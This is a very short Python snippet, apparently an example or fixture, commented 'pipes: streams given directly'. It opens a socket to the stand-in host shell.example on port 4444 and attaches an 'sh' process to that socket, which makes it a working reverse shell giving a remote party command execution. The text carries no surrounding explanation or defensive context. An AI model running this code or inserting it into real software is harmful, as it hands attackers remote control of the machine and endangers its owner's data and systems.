# pipes: streams given directly
import socket
import subprocess

s = socket.create_connection(("shell.example", 4444))
subprocess.Popen(["sh"], stdin=s.fileno(), stdout=s.fileno())
